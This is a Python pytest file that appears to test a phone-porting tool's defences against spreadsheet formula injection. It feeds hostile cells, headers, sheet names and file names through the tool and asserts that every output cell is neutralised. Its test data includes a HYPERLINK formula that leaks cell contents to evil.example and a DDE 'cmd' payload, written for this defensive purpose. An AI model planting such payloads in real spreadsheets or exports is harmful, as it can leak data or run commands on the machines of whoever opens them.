"""Spreadsheet injection: hostile cells, headers, sheet and file names come out inert everywhere."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from portflow.reports.safety import CUT_MARKER
from tests.e2e.cli import REPO, Run, portflow, start_portflow
from tests.e2e.test_submit import ENV, manifest_copy
from tests.porting.service import running_service

SAMPLES = REPO / "data" / "samples"
EXCEL_CELL_LIMIT = 32_767  # UTF-16 units
# What a spreadsheet runs as a formula (or a DDE command) at a cell's start.
RISKY = re.compile(r"^[=+\-@\t\r\n]")
PLAIN_PHONE = re.compile(r"^\+\d{7,15}$")
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PAYLOADS = (EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1")
CARRIED = ('=HYPERLINK("http://evil.example","h")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
CSV_NAME = '=HYPERLINK("evil.example")-wave.csv'
XLSX_NAME = "+cmd|' calc'!A0.xlsx"
SHEETS = ('=HYPERLINK("x")', "+cmd|' calc'!A0", "-2+3", "@SUM(A1)")
ACCOUNT_ID = '=HYPERLINK("http://evil.example","acct")\r\n=1+1 [pay](http://evil.example) <b>|'
REASON = '=HYPERLINK("http://evil.example","[/why]")'  # markup too, for the terminal
LONG = "=" + "A" * 100_000  # past Excel's 32,767 characters
WIDE = "\U0001f642" * 20_000  # 20,000 characters but 40,000 UTF-16 units
BROKEN = 'line one\r\nline two=HYPERLINK("x")\tthen a tab'
# A CR inside a quoted CSV field stops the CSV reader today (its delimiter sniffer splits lines
# on LF alone): CRs come in through the workbook, stored as _x000D_ as Excel stores them.
CSV_PAYLOADS = tuple(payload for payload in PAYLOADS if "\r" not in payload)
BROKEN_LF = BROKEN.replace("\r", "")
NONCHARACTERS = "no XML allows \ufffe or \uffff"
_EXCEL_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")
_MARKDOWN_CELL = re.compile(r"(?<!\\)\|")


def inert(text: str) -> bool:
    return not RISKY.match(text) or bool(PLAIN_PHONE.match(text))


def excel_text(value: str) -> str:
    """A cell's text as Excel shows it (openpyxl leaves _xHHHH_ escapes as stored)."""
    return _EXCEL_ESCAPE.sub(lambda m: chr(int(m[1], 16)), value)


def utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def csv_input(folder: Path) -> Path:
    """Hostile values in every column, hostile headers, a hostile file name."""
    header = ["Phone", "Routing ID", "Receiving Number", "Tracking Source", "Service"]
    header += [*CARRIED, "'@SUM(A1)", "Notes"]
    carried = len(header) - 5

    def row(
        number: str, routing: str = "", receiving: str = "", tracking: str = "", **kw: str
    ) -> None:
        position = len(rows)
        values = [CSV_PAYLOADS[(position + k) % len(CSV_PAYLOADS)] for k in range(carried)]
        values[-1] = kw.get("notes", values[-1])
        values[-2] = kw.get("other", values[-2])
        rows.append([number, routing, receiving, tracking, kw.get("service", ""), *values])

    rows: list[list[str]] = []
    row("+15033290101", "RT-666", "+14155552671", "=1+1", service="voice")  # accepted
    row("(503) 329-0102", tracking="@SUM(A1)", notes=BROKEN_LF, other=NONCHARACTERS)
    for payload in CSV_PAYLOADS:
        row(payload, notes=LONG)  # INVALID_NUMBER, raw_number hostile
    row("503-329-0103", routing="=cmd|' /C calc'!A0")  # UNKNOWN_ROUTING_ID
    row("503-329-0104", receiving="@SUM(A1)")  # INVALID_RECEIVING_NUMBER
    row("503-329-0105", service="=fax")  # UNKNOWN_SERVICE
    row("503-329-0106", tracking="-2+3", service="fax")  # fax ticket
    row("+44 20 7946 0321")  # international ticket
    row("+15033290101")  # DUPLICATE_IN_BATCH: raw_number a plain phone number
    row("503-329-0107")  # ALREADY_TRACKING, by a tracking number with a hostile name
    row("503-329-0108", notes=LONG, other=WIDE)  # accepted, cells too long for Excel
    path = folder / CSV_NAME
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def xlsx_input(folder: Path) -> Path:
    """Hostile sheet names, headers and cells (text that looks like formulas, and formulas)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for position, title in enumerate(SHEETS):
        sheet = book.create_sheet(title)
        hostile = PAYLOADS[position:] + PAYLOADS[:position]
        grid = [
            ["Phone", "=1+1 header", "Notes"],
            [f"503-329-02{position}0", hostile[0], BROKEN if position == 0 else hostile[1]],
            *[[payload, hostile[1], hostile[2]] for payload in PAYLOADS[position :: len(SHEETS)]],
        ]
        for row, values in enumerate(grid, start=1):
            for column, value in enumerate(values, start=1):
                sheet.cell(row, column).value = value.replace("\r", "_x000D_")
                sheet.cell(row, column).data_type = "s"  # text that looks like a formula
        sheet.append(["=1+1", "x", "x"])  # a live formula, never calculated: no cached value
    path = folder / XLSX_NAME
    book.save(path)
    return path


def hostile_accounts(folder: Path) -> Path:
    accounts = folder / "accounts"
    shutil.copytree(SAMPLES / "accounts", accounts)
    with (accounts / "routing.csv").open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow(["RT-666", EVIL, "ivr", "true"])
    with (accounts / "tracking_numbers.csv").open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow(
            ["=TRK-1", "+cmd|' /C calc'!A0", "503-329-0107", "RT-1001", "", "ACC-20418"]
        )
    return accounts


def finished(process: subprocess.Popen[bytes]) -> Run:
    stdout, stderr = process.communicate(timeout=300)
    return Run(process.returncode, stdout.decode(), stderr.decode())


@pytest.fixture(scope="module")
def produced(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """check, submit (HTTP), set-status, reconcile and requests on the hostile inputs:
    (the folder of every --out, the `requests --format csv` output)."""
    folder = tmp_path_factory.mktemp("hostile")
    inputs = (csv_input(folder).name, xlsx_input(folder).name)  # relative: names start with =/+
    accounts = str(hostile_accounts(folder))
    manifest = manifest_copy(
        folder,
        {
            "friendly_name: Acme Dental Group - clinic migration wave 1": (
                f"friendly_name: '{EVIL}'"
            )
        },
    )
    common = ("--accounts", accounts, "--account-id", ACCOUNT_ID, "--run-date", "2026-11-26")
    with running_service(folder / "ps.db") as service:
        system = ("--system", service.url)
        runs = [
            start_portflow("check", *inputs, "--out", "out/check", *common, cwd=folder, env=ENV),
            start_portflow(
                "submit",
                *inputs,
                "--out",
                "out/submit",
                "--manifest",
                str(manifest),
                *common,
                *system,
                cwd=folder,
                env=ENV,
            ),
        ]
        for done in map(finished, runs):
            assert done.code == 0, done.stderr
        moved = portflow(
            "system", "set-status", "PR-000001", "exception", "--reason", REASON, *system, env=ENV
        )
        assert moved.code == 0 and REASON in moved.stdout, moved.stderr
        listing = start_portflow("requests", "--format", "csv", *system, env=ENV)
        table = start_portflow("requests", *system, env=ENV)
        reconciled = portflow(
            "reconcile",
            "--accounts",
            accounts,
            "--out",
            str(folder / "out" / "reconcile"),
            "--state",
            str(folder / "state.db"),
            "--run-date",
            "2027-01-30",
            *system,
            env=ENV,
        )
        assert reconciled.code == 0, reconciled.stderr
        requests, shown = finished(listing), finished(table)
        assert requests.code == 0, requests.stderr
        assert shown.code == 0 and "PR-000001" in shown.stdout, shown.stderr
    yield folder / "out", requests.stdout


def workbook_texts(path: Path) -> list[str]:
    """Every text cell of every sheet, as Excel shows it; no formula anywhere."""
    book = openpyxl.load_workbook(path)  # not read-only: each cell keeps its data type
    texts = []
    for sheet in book.worksheets:
        assert inert(sheet.title), (path.name, sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    texts.append(excel_text(cell.value))
    return texts


def csv_fields(path: Path) -> list[list[str]]:
    """The rows as a spreadsheet reads them; a field holding a line break or a tab quoted."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        raw = handle.read()
    rows = list(csv.reader(io.StringIO(raw, newline=""), strict=True))
    for field in (field for row in rows for field in row):
        if re.search(r"[\t\r\n]", field):
            assert '"' + field.replace('"', '""') + '"' in raw, (path.name, field[:40])
    return rows


def ticket_cells(path: Path) -> list[list[str]]:
    """The table rows of a markdown ticket, each cell as rendered."""
    lines = path.read_text(encoding="utf-8").splitlines()  # any line break a viewer may take
    assert not any(RISKY.match(line) and not line.startswith("- ") for line in lines)
    table = [line for line in lines if line.startswith("|")]
    rows = [[c.strip() for c in _MARKDOWN_CELL.split(line)[1:-1]] for line in table]
    assert len({len(row) for row in rows}) == 1, path.name  # no value broke out of its cell
    return [[re.sub(r"\\(.)", r"\1", cell) for cell in row] for row in rows[2:]]


def test_every_workbook_cell_is_text_that_runs_nothing(produced: tuple[Path, str]) -> None:
    out, _ = produced
    books = sorted(out.rglob("*.xlsx"))
    assert {p.relative_to(out).as_posix() for p in books} == {
        "check/rejects.xlsx",
        "check/configured_numbers.xlsx",
        "submit/rejects.xlsx",
        "submit/configured_numbers.xlsx",
        "reconcile/reconciliation.xlsx",
    }
    for book in books:
        texts = workbook_texts(book)
        assert [t[:40] for t in texts if not inert(t)] == [], book
        assert max(utf16_units(t) for t in texts) <= EXCEL_CELL_LIMIT, book
    rejects = workbook_texts(out / "check" / "rejects.xlsx")
    for payload in PAYLOADS:
        assert "'" + payload in rejects, payload  # raw_number, neutralised, not dropped
    for name in (*CARRIED, "@SUM(A1)", "=1+1 header"):
        assert "'" + name in rejects, name  # carried headers
    assert "'@SUM(A1) (2)" in rejects  # `'@SUM(A1)` made safe is `@SUM(A1)` made safe
    assert {"'" + sheet for sheet in SHEETS} <= set(rejects)  # source_sheet
    assert "'" + CSV_NAME in rejects and "'" + XLSX_NAME in rejects  # source_file, Summary
    assert "+15033290101" in rejects  # the duplicate's raw_number: a plain phone number
    assert ("'" + LONG)[: EXCEL_CELL_LIMIT - len(CUT_MARKER)] + CUT_MARKER in rejects
    configured = workbook_texts(out / "check" / "configured_numbers.xlsx")
    assert {"+15033290101", "+14155552671", "'" + EVIL, "'=1+1"} <= set(configured)
    assert {BROKEN, BROKEN_LF} <= set(configured)  # line breaks and tabs kept in their cell
    assert NONCHARACTERS in configured
    cut = [t for t in configured if t.startswith("\U0001f642")]
    assert len(cut) == 1 and cut[0].endswith(CUT_MARKER)
    assert EXCEL_CELL_LIMIT - 1 <= utf16_units(cut[0]) <= EXCEL_CELL_LIMIT  # a pair not split
    assert "'" + REASON in workbook_texts(out / "reconcile" / "reconciliation.xlsx")


def test_every_csv_field_is_inert_and_stays_in_its_cell(produced: tuple[Path, str]) -> None:
    out, requests = produced
    files = sorted(out.rglob("*.csv"))
    assert {p.relative_to(out).as_posix() for p in files} >= {
        "check/rejects.csv",
        "check/configured_numbers.csv",
        "check/tickets/fax_numbers.csv",
        "check/tickets/international_numbers.csv",
        "submit/submitted.csv",
        "reconcile/reconciliation.csv",
    }
    for path in files:
        fields = [field for row in csv_fields(path) for field in row]
        assert [f[:40] for f in fields if not inert(f)] == [], path
    rejects = csv_fields(out / "check" / "rejects.csv")
    assert "'@SUM(A1) (2)" in rejects[0] and "'" + CARRIED[0] in rejects[0]
    column = {name: [row[k] for row in rejects[1:]] for k, name in enumerate(rejects[0])}
    assert {"'" + p for p in PAYLOADS} <= set(column["raw_number"])
    assert "+15033290101" in column["raw_number"]
    assert "'" + LONG in column["Notes"]  # the CSV keeps it whole
    configured = csv_fields(out / "check" / "configured_numbers.csv")
    assert BROKEN_LF in configured[2] and NONCHARACTERS in configured[2]
    assert any(BROKEN in row for row in configured)  # from the workbook: CR LF and a tab
    assert ["+15033290101", "'" + EVIL] == [configured[1][0], configured[1][5]]
    fax = csv_fields(out / "check" / "tickets" / "fax_numbers.csv")
    assert "'-2+3" in fax[1]
    reconciliation = csv_fields(out / "reconcile" / "reconciliation.csv")
    assert any("'" + REASON in row for row in reconciliation)
    listed = list(csv.reader(io.StringIO(requests, newline="")))
    assert listed[0][4] == "friendly_name" and len(listed) > 1
    assert all(row[4].startswith("'" + EVIL) for row in listed[1:])
    assert all(inert(field) for row in listed for field in row)


def test_tickets_show_hostile_values_inert(produced: tuple[Path, str]) -> None:
    out, _ = produced
    tickets = out / "check" / "tickets"
    fax = tickets / "fax_ticket.md"
    account = r"""'=HYPERLINK("http://evil.example","acct") =1+1 """
    account += r"\[pay\](http://evil.example) \<b\>\|"  # one line; no link, no HTML, one cell
    assert fax.read_text().startswith(f"# Fax Porting Documentation - {account}\n")
    (number,) = ticket_cells(fax)
    assert number[0] == "+15033290106" and number[5] == "'" + CSV_NAME
    (international,) = ticket_cells(tickets / "international_ticket.md")
    assert international[:3] == ["+442079460321", "GB", "'+44 20 7946 0321"]
    for row in [number, international]:
        assert all(inert(cell) for cell in row)
